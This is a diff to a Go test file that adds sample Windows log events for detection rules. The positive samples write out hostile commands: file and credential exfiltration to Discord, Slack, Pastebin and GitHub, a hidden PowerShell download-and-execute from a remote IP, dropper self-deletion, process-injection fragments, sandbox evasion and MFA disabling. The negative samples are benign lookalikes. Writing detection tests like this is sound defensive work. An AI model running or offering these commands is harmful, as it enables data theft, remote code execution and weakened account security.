@@ -342,6 +342,151 @@ func init() {
 				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
+		ruleSample{
+			ID:      "fda0a2ba-41c6-4b51-a61d-92bbd626f004", // Data Sent to a Chat or Request-Catcher Webhook (Command Line)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "curl.exe -F \"file=@C:\\Users\\bob\\AppData\\Local\\Temp\\loot.zip\" https://discord.com/api/webhooks/1122334455/AbCdEf",
+				"Image":       "C:\\Windows\\System32\\curl.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		ruleSample{
+			ID:      "6a6342b3-7a29-417a-958e-bba77ced00ef", // Data Sent to a Chat or Request-Catcher Webhook (Script Block)
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Invoke-RestMethod -Uri \"https://hooks.slack.com/services/T000/B000/XXXX\" -Method Post -Body (@{text=(Get-Content $env:TEMP\\creds.txt -Raw)} | ConvertTo-Json)",
+			},
+		},
+		ruleSample{
+			ID:      "76a14753-1c48-4ad4-a5d5-b01a24de69f9", // Data Posted to a Paste Site API (Command Line)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "curl.exe -d \"api_dev_key=abc&api_option=paste&api_paste_code=@C:\\Users\\bob\\pw.txt\" https://pastebin.com/api/api_post.php",
+				"Image":       "C:\\Windows\\System32\\curl.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		ruleSample{
+			ID:      "b45d34e5-356c-4abf-8d6b-0f2c0fe5af0b", // Data Posted to a Paste Site API (Script Block)
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Invoke-WebRequest -Uri https://pastebin.com/api/api_post.php -Method Post -Body @{api_dev_key=$k; api_option=\"paste\"; api_paste_code=(Get-Content $env:TEMP\\out.txt -Raw)}",
+			},
+		},
+		ruleSample{
+			ID:      "fcd2968e-dfa1-4eb1-bc51-1253f29bb201", // File Uploaded to a Code Repository Through the GitHub or GitLab API (Command Line)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "curl.exe -X PUT -H \"Authorization: token ghp_x\" -d @C:\\Users\\bob\\AppData\\Local\\Temp\\b64.json https://api.github.com/repos/xx/yy/contents/data/host1.txt",
+				"Image":       "C:\\Windows\\System32\\curl.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		ruleSample{
+			ID:      "cb371782-46f8-4f2c-b3e7-d41bced24d74", // File Uploaded to a Code Repository Through the GitHub or GitLab API (Script Block)
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Invoke-RestMethod -Method Put -Uri \"https://api.github.com/repos/xx/yy/contents/$env:COMPUTERNAME.txt\" -Headers @{Authorization=\"token $t\"} -Body (@{message=\"u\";content=$b64}|ConvertTo-Json)",
+			},
+		},
+		ruleSample{
+			ID:      "c5d04cf1-27d0-4387-9d94-9d2649910306", // Loopback Ping or Timeout Used to Delay a Chained Command
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "cmd.exe /c ping -n 5 127.0.0.1 > nul & del /f /q \"C:\\Users\\bob\\AppData\\Local\\Temp\\dropper.exe\"",
+				"Image":       "C:\\Windows\\System32\\cmd.exe",
+				"ParentImage": "C:\\Users\\bob\\AppData\\Local\\Temp\\dropper.exe",
+			},
+		},
+		ruleSample{
+			ID:      "58c13110-fc06-4600-b274-e054fe283805", // Web Browser Starts a Script Host or LOLBin
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "\"C:\\Windows\\System32\\mshta.exe\" https://shared-docs.example/view.hta",
+				"Image":       "C:\\Windows\\System32\\mshta.exe",
+				"ParentImage": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+			},
+		},
+		ruleSample{
+			ID:      "011d9d59-2112-44a6-b06f-12edc3035e27", // Script Writes Extra Window Memory of Another Window
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "$h=[W]::FindWindow(\"Shell_TrayWnd\",$null); $o=[W]::GetWindowLongPtr($h,0); [W]::WriteProcessMemory($p,$buf,$sc,$sc.Length,[ref]0); [W]::SetWindowLongPtr($h,0,$ptr); [W]::SendNotifyMessage($h,0x506,0,0)",
+			},
+		},
+		ruleSample{
+			ID:      "899c4c3a-6834-4b10-aee8-daae5f949b71", // Script Abuses a List-View Control to Run Code (ListPlanting)
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "$lv=[W]::FindWindowEx($parent,0,\"SysListView32\",$null); $m=[W]::VirtualAllocEx($hp,0,$sc.Length,0x3000,0x40); [W]::WriteProcessMemory($hp,$m,$sc,$sc.Length,[ref]0); [W]::PostMessage($lv,0x1030,$m,0)",
+			},
+		},
+		ruleSample{
+			ID:      "76818ef4-d41f-4f9b-b517-67e9d3a51074", // Windows Installer Runs a Downloading or Encoded Script
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString(http://203.0.113.5/a.ps1)\"",
+				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+				"ParentImage": "C:\\Windows\\System32\\msiexec.exe",
+			},
+		},
+		ruleSample{
+			ID:      "b45a069a-deed-41e6-a0a6-ef2d9e282c58", // Office Dynamic Data Exchange Re-Enabled in the Registry
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
+			Fields: map[string]string{
+				"Details":      "DWORD (0x00000002)",
+				"EventType":    "SetValue",
+				"Image":        "C:\\Windows\\System32\\reg.exe",
+				"TargetObject": "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\AllowDDE",
+			},
+		},
+		ruleSample{
+			ID:      "786ad6dc-f7da-4470-87d7-d0f20b152d30", // Script Checks for User Input Before Running
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "$p1=[Windows.Forms.Cursor]::Position; Start-Sleep -Seconds 30; $p2=[Windows.Forms.Cursor]::Position; if ($p1 -eq $p2) { exit }; IEX $stage2",
+			},
+		},
+		ruleSample{
+			ID:      "d9675785-c3af-41cf-979e-78793451d626", // HTTP Request Sent With a Host Header Different From Its URL (Domain Fronting)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "C:\\Windows\\System32\\curl.exe -H \"Host: a0.awsstatic.com\" \"https://d0.awsstatic.com/dfsdfsd\"",
+				"Image":       "C:\\Windows\\System32\\curl.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		ruleSample{
+			ID:      "4540cfeb-4889-4251-883e-1f79b72f8bb3", // Mailboxes Searched Remotely Through Exchange Web Services
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Invoke-GlobalMailSearch -ImpersonationAccount svc-ews -ExchHostname mail.contoso.com -OutputCsv C:\\Users\\Public\\mails.csv -Terms \"*password*\",\"*vpn*\"",
+			},
+		},
+		ruleSample{
+			ID:      "9bf9590e-1d85-4a81-b43f-f4710a287064", // Bandwidth-Sharing (Proxyware) Client Started
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "C:\\ProgramData\\pawns\\pawns-cli.exe -email=x@y.example -password=p -device-name=ws01 -accept-tos",
+				"Image":       "C:\\ProgramData\\pawns\\pawns-cli.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		ruleSample{
+			ID:      "06214f3f-541b-4683-9a3e-ef88000e273f", // User MFA Settings Changed With AADInternals
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Set-AADIntUserMFA -AccessToken $at -UserPrincipalName cfo@contoso.com -State Disabled",
+			},
+		},
+		ruleSample{
+			ID:      "11fbfb27-ed75-4b6b-a6bf-8b1bf5d5876a", // Script Reads or Rewrites the KernelCallbackTable of a Process
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "$peb=[Marshal]::PtrToStructure($pbi.PebBaseAddress,[type][PEB]); $kct=$peb.KernelCallbackTable; [W]::WriteProcessMemory($hp,$newTable,$tbl,$tbl.Length,[ref]0)",
+			},
+		},
 	)
 	ruleNegatives = append(ruleNegatives,
 		ruleSample{
@@ -660,6 +805,151 @@ func init() {
 				"CommandLine": "\"C:\\Program Files\\Oracle\\VirtualBox\\VBoxManage.exe\" list runningvms",
 				"Image":       "C:\\Program Files\\Oracle\\VirtualBox\\VBoxManage.exe",
 				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		ruleSample{
+			ID:      "fda0a2ba-41c6-4b51-a61d-92bbd626f004", // Data Sent to a Chat or Request-Catcher Webhook (Command Line)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "curl.exe -o C:\\Temp\\setup.exe https://cdn.discordapp.com/attachments/11/22/setup.exe",
+				"Image":       "C:\\Windows\\System32\\curl.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		ruleSample{
+			ID:      "6a6342b3-7a29-417a-958e-bba77ced00ef", // Data Sent to a Chat or Request-Catcher Webhook (Script Block)
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Start-Process \"https://discord.com/channels/@me\"",
+			},
+		},
+		ruleSample{
+			ID:      "76a14753-1c48-4ad4-a5d5-b01a24de69f9", // Data Posted to a Paste Site API (Command Line)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "curl.exe -o C:\\Temp\\notes.txt https://pastebin.com/raw/abc123",
+				"Image":       "C:\\Windows\\System32\\curl.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		ruleSample{
+			ID:      "b45d34e5-356c-4abf-8d6b-0f2c0fe5af0b", // Data Posted to a Paste Site API (Script Block)
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "$page = Invoke-WebRequest -Uri https://pastebin.com/archive -UseBasicParsing",
+			},
+		},
+		ruleSample{
+			ID:      "fcd2968e-dfa1-4eb1-bc51-1253f29bb201", // File Uploaded to a Code Repository Through the GitHub or GitLab API (Command Line)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "curl.exe -s https://api.github.com/repos/git-for-windows/git/contents/README.md",
+				"Image":       "C:\\Windows\\System32\\curl.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		ruleSample{
+			ID:      "cb371782-46f8-4f2c-b3e7-d41bced24d74", // File Uploaded to a Code Repository Through the GitHub or GitLab API (Script Block)
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Invoke-RestMethod -Uri https://api.github.com/repos/PowerShell/PowerShell/contents/README.md | Select-Object download_url",
+			},
+		},
+		ruleSample{
+			ID:      "c5d04cf1-27d0-4387-9d94-9d2649910306", // Loopback Ping or Timeout Used to Delay a Chained Command
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "cmd.exe /c ping -n 4 10.0.0.1",
+				"Image":       "C:\\Windows\\System32\\cmd.exe",
+				"ParentImage": "C:\\Windows\\explorer.exe",
+			},
+		},
+		ruleSample{
+			ID:      "58c13110-fc06-4600-b274-e054fe283805", // Web Browser Starts a Script Host or LOLBin
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "C:\\Windows\\system32\\cmd.exe /d /c \"C:\\Program Files\\KeePassXC\\keepassxc-proxy.exe\" chrome-extension://oboonakemofpalcgghocfoadofidjkkk/ --parent-window=0 < \\\\.\\pipe\\chrome.nativeMessaging.in.1 > \\\\.\\pipe\\chrome.nativeMessaging.out.1",
+				"Image":       "C:\\Windows\\System32\\cmd.exe",
+				"ParentImage": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+			},
+		},
+		ruleSample{
+			ID:      "011d9d59-2112-44a6-b06f-12edc3035e27", // Script Writes Extra Window Memory of Another Window
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "$h=[W]::FindWindow($null,\"Untitled - Notepad\"); [W]::SetWindowLongPtr($h,-20,0x80000); [W]::SetLayeredWindowAttributes($h,0,200,2)",
+			},
+		},
+		ruleSample{
+			ID:      "899c4c3a-6834-4b10-aee8-daae5f949b71", // Script Abuses a List-View Control to Run Code (ListPlanting)
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "$lv=[W]::FindWindowEx($parent,0,\"SysListView32\",$null); $count=[W]::SendMessage($lv,0x1004,0,0)  # LVM_GETITEMCOUNT",
+			},
+		},
+		ruleSample{
+			ID:      "76818ef4-d41f-4f9b-b517-67e9d3a51074", // Windows Installer Runs a Downloading or Encoded Script
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "powershell.exe -NoProfile -ExecutionPolicy Bypass -File \"C:\\Program Files\\Contoso\\setup\\configure.ps1\"",
+				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+				"ParentImage": "C:\\Windows\\System32\\msiexec.exe",
+			},
+		},
+		ruleSample{
+			ID:      "b45a069a-deed-41e6-a0a6-ef2d9e282c58", // Office Dynamic Data Exchange Re-Enabled in the Registry
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
+			Fields: map[string]string{
+				"Details":      "DWORD (0x00000000)",
+				"EventType":    "SetValue",
+				"Image":        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+				"TargetObject": "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\AllowDDE",
+			},
+		},
+		ruleSample{
+			ID:      "786ad6dc-f7da-4470-87d7-d0f20b152d30", // Script Checks for User Input Before Running
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Add-Type -AssemblyName System.Windows.Forms; [System.Windows.Forms.Screen]::PrimaryScreen.Bounds",
+			},
+		},
+		ruleSample{
+			ID:      "d9675785-c3af-41cf-979e-78793451d626", // HTTP Request Sent With a Host Header Different From Its URL (Domain Fronting)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "curl.exe -H \"Accept: application/json\" https://api.contoso.com/health",
+				"Image":       "C:\\Windows\\System32\\curl.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		ruleSample{
+			ID:      "4540cfeb-4889-4251-883e-1f79b72f8bb3", // Mailboxes Searched Remotely Through Exchange Web Services
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Get-Mailbox -ResultSize Unlimited | Get-MailboxStatistics | Select-Object DisplayName, ItemCount",
+			},
+		},
+		ruleSample{
+			ID:      "9bf9590e-1d85-4a81-b43f-f4710a287064", // Bandwidth-Sharing (Proxyware) Client Started
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\" https://www.honeygain.com/",
+				"Image":       "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
+				"ParentImage": "C:\\Windows\\explorer.exe",
+			},
+		},
+		ruleSample{
+			ID:      "06214f3f-541b-4683-9a3e-ef88000e273f", // User MFA Settings Changed With AADInternals
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Get-MgUserAuthenticationMethod -UserId cfo@contoso.com | Select-Object Id",
+			},
+		},
+		ruleSample{
+			ID:      "11fbfb27-ed75-4b6b-a6bf-8b1bf5d5876a", // Script Reads or Rewrites the KernelCallbackTable of a Process
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "$pbi = Get-ProcessBasicInformation -Id $pid; $pbi.PebBaseAddress",
 			},
 		},
 	)
